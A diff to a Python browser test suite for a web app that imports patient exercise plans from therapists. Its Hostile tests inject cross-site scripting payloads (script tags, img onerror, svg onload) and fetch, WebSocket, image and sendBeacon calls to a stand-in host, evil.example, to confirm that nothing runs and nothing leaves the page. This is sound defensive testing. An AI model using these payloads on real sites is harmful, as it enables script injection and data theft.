@@ -23,6 +23,14 @@ def english(name, form="json", language="en"):
     return exported(path, form)
 
 
+def loose(text):
+    """A plan that a test may change: without digests it is not checked."""
+    plan = json.loads(text)
+    plan.pop("digest", None)
+    plan["resolved"].pop("digest", None)
+    return plan
+
+
 class Page(unittest.TestCase):
     width, height, options = 390, 844, {}
 
@@ -86,9 +94,11 @@ class Imports(Page):
     def test_by_the_address_of_the_handouts_code(self):
         html = exported(FLAGSHIP, "html", "--qr", "https://clinic.example/t")
         # The code is drawn, not written: the same short form is made here as PlanLink makes it.
-        plan = json.loads(english(FLAGSHIP))
+        plan = loose(english(FLAGSHIP))
         for name in ("patient", "born", "identifier"):
             plan.pop(name, None)
+        for name in ("figures", "headings", "pain", "rules"):
+            plan["resolved"].pop(name, None)
         plan["patientKey"] = plan["id"]
         del plan["resolved"]["exercises"], plan["resolved"]["words"]
         self.assertIn("<svg", html)
@@ -108,7 +118,7 @@ class Imports(Page):
         self.no_errors()
 
     def test_a_page_without_stop_rules_refuses_a_code_without_them(self):
-        plan = json.loads(english(FLAGSHIP))
+        plan = loose(english(FLAGSHIP))
         plan["resolved"] = {"catalog": "1.0", "stopRules": []}
         self.t.open(page("bare"), DAY)
         self.paste("#plan=" + fragment(json.dumps(plan)))
@@ -119,12 +129,12 @@ class Imports(Page):
         self.drop(english(FLAGSHIP), "x.therex.json")
         self.t.says("Prone press-up")
         whole = english(FLAGSHIP)
-        newer = whole.replace('"format": "1.0"', '"format": "2.0"').replace('"format": "1.1"', '"format": "2.0"')
-        must = json.loads(whole)
-        must["mustUnderstand"] = ["irradiation"]
-        inside = json.loads(whole)
+        newer = re.sub(r'"format": "1\.[0-9]+"', '"format": "2.0"', whole)
+        must = loose(whole)
+        must["mustUnderstand"] = "irradiation"
+        inside = loose(whole)
         inside["phases"][0]["extensions"] = [{"namespace": "urn:x", "name": "y", "mustUnderstand": True}]
-        negative = json.loads(whole)
+        negative = loose(whole)
         negative["phases"][0]["blocks"][0]["prescriptions"][0]["schedule"]["days"] = {"kind": "whenTheMoonIsFull"}
         cases = [("hello", "is not an exercise plan"), ("%PDF-1.7", "is not an exercise plan"), ("<html><body>x</body></html>", "is not an exercise plan"), ('{"format": "1.2", "sessions": []}', "is a log of exercises"),
                  (whole[: len(whole) // 2], "is damaged"), (english(FLAGSHIP, "xml")[:4000], "is damaged"), (newer, "made for a newer tracker"),
@@ -138,7 +148,7 @@ class Imports(Page):
         self.t.says("Prone press-up", "0 of 3 done today")
 
     def test_a_digest_that_is_wrong_is_refused_and_one_that_is_right_is_not(self):
-        plan = json.loads(english(FLAGSHIP))
+        plan = loose(english(FLAGSHIP))
         plan.pop("digest", None)
         right = self.t.later("return await Digest.of(JSON.parse(arguments[0]), Digest.APART)", json.dumps(plan))
         self.assertRegex(right, "^sha-256:[0-9a-f]{64}$")
@@ -149,12 +159,19 @@ class Imports(Page):
         self.t.js("App.go('start')")
         self.paste(json.dumps(plan))
         self.t.says("was changed after your therapist made it")
+        made = english(FLAGSHIP, "xml")
+        if ' digest="sha-256:' in made:
+            changed = made.replace('<repetitions low="10" high="10"/>', '<repetitions low="100" high="100"/>', 1)
+            self.assertNotEqual(made, changed)
+            self.t.js("App.go('start')")
+            self.paste(changed)
+            self.t.says("was changed after your therapist made it")
         # RFC 8785's own example of order and numbers.
         self.assertEqual(self.t.js('return Digest.canonical({"\\u20ac": 1, "\\r": 2, "1": 333333333.33333329, "\\ud83d\\ude02": 1e30, "\\u0080": [4.50, 0.002, 1e-27]})'),
                          '{"\\r":2,"1":333333333.3333333,"\x80":[4.5,0.002,1e-27],"€":1,"😂":1e+30}')
 
     def test_versions_replace_each_other_and_keep_the_log(self):
-        plan = json.loads(english(FLAGSHIP))
+        plan = loose(english(FLAGSHIP))
         self.drop(json.dumps(plan), "a")
         self.t.tap("Done as written")
         newer = copy.deepcopy(plan)
@@ -173,7 +190,7 @@ class Imports(Page):
         self.assertEqual([s["version"] for s in self.t.log()["sessions"]], [1])
 
     def test_another_patient_is_asked_about(self):
-        plan = json.loads(english(FLAGSHIP))
+        plan = loose(english(FLAGSHIP))
         plan["patientKey"] = "otter-17"
         self.drop(json.dumps(plan), "a")
         self.t.says("Prone press-up")
@@ -189,7 +206,7 @@ class Imports(Page):
         self.no_errors()
 
     def test_drafts_old_versions_and_programs_are_shown_and_not_run(self):
-        plan = json.loads(english(FLAGSHIP))
+        plan = loose(english(FLAGSHIP))
         for status, sentence in (("draft", "is a draft"), ("superseded", "old version")):
             plan.update(status=status, id="x-" + status)
             self.drop(json.dumps(plan), "a")
@@ -279,7 +296,7 @@ class Sessions(Page):
         self.t.ahead(91)
         self.t.says("Ready when you are")
         self.t.tap("Next set")
-        self.t.says("set 2 of 3", "10 to 12", "40 kg")
+        self.t.says("set 2 of 3", "10–12", "40 kg")
         self.t.tap("Done")
         self.t.tap("Next set")
         self.t.says("set 3 of 3", "at least 8", "45 kg")
@@ -454,7 +471,7 @@ class StopRules(Page):
             for urgency in self.t.js("return [...new Set(Stops.all(App.plan).map((r) => r.urgency))]"):
                 said = self.t.js("return Stop.calls(App.plan, arguments[0]).map((e) => e.textContent).join(' ')", urgency)
                 self.assertTrue(said.strip(), (name, urgency))
-            file = json.loads(english(name))["resolved"]["stopRules"]
+            file = loose(english(name))["resolved"]["stopRules"]
             shown = self.t.js("App.go('stops'); return document.querySelector('.stops').innerText.toLowerCase()")
             for rule in file:
                 if "prescription" not in rule:
@@ -541,6 +558,12 @@ class Loop(Page):
 class Hostile(Page):
     """Nothing that a plan says becomes anything but text."""
 
+    def setUp(self):
+        self.listener = harness.Listener()
+        self.addCleanup(self.listener.socket.close)
+        self.options = {"arguments": [f"--host-resolver-rules=MAP evil.example 127.0.0.1:{self.listener.port}"]}
+        super().setUp()
+
     EVIL = "<img src=x onerror=window.pwned=1><script>window.pwned=2</script><svg onload=window.pwned=3>\u202e"
 
     def spoil(self, value, key=""):
@@ -553,7 +576,7 @@ class Hostile(Page):
         return value
 
     def test_script_in_every_text(self):
-        plan = self.spoil(json.loads(english("spinal-stenosis-with-a-chair")))
+        plan = self.spoil(loose(english("spinal-stenosis-with-a-chair")))
         plan["resolved"]["figures"] = [{"exercise": e["id"], "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=4"><script>top.pwned=5</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x" onerror="top.pwned=6"/></foreignObject><image href="https://evil.example/y"/></svg>'} for e in plan["resolved"]["exercises"]]
         self.use("hostile", json.dumps(plan), catalog=False)
         self.t.says("<img src=x onerror")
@@ -567,10 +590,11 @@ class Hostile(Page):
         time.sleep(0.5)
         self.assertIsNone(self.t.js("return window.pwned || null"))
         self.assertNotIn("\u202e", self.t.text())
+        self.assertEqual(self.listener.visits, [])
 
     def test_ten_thousand_exercises_and_an_endless_text_are_refused_at_once(self):
         self.t.open(page("empty", catalog=True), DAY)
-        plan = json.loads(english(FLAGSHIP))
+        plan = loose(english(FLAGSHIP))
         one = plan["phases"][0]["blocks"][0]["prescriptions"][0]
         many = copy.deepcopy(plan)
         many["phases"][0]["blocks"][0]["prescriptions"] = [dict(one, id=f"x{n}") for n in range(10000)]
@@ -589,11 +613,18 @@ class Hostile(Page):
 
     def test_nothing_leaves_the_page(self):
         self.use("silent", english(FLAGSHIP))
-        for script in ("await fetch('https://example.com')", "await new Promise((r, e) => { const i = new Image(); i.onload = r; i.onerror = () => e('refused'); i.src = 'https://example.com/x.png' })",
+        for script in ("await fetch('http://evil.example')", "await new Promise((r, e) => { const i = new Image(); i.onload = r; i.onerror = () => e('refused'); i.src = 'http://evil.example/x.png' })",
                        "new Function('return 1')()", "document.body.innerHTML = '<b>x</b>'", "const s = document.createElement('script'); s.textContent = 'window.pwned = 7'; document.body.append(s); if (!window.pwned) throw 'refused'",
-                       "const s = new WebSocket('wss://example.com'); await new Promise((r, e) => { s.onopen = r; s.onerror = () => e('refused') })"):
+                       "const s = new WebSocket('ws://evil.example'); await new Promise((r, e) => { s.onopen = r; s.onerror = () => e('refused') })"):
             self.assertTrue(str(self.t.later("await new Promise((r) => setTimeout(r, 20)); " + script + "; return 'went through'")).startswith("error"), script)
-        self.assertEqual(self.t.js("return navigator.sendBeacon ? performance.getEntriesByType('resource').filter((r) => !r.name.startsWith('data:')).length : 0"), 0)
+        self.t.js("navigator.sendBeacon('http://evil.example/b', 'x')")
+        time.sleep(0.5)
+        self.assertEqual(self.listener.visits, [])
+        try:
+            self.t.driver.get("http://evil.example/")
+        except Exception:
+            pass
+        self.assertTrue(self.listener.visits, "the listener hears")
 
 
 class Keeping(Page):
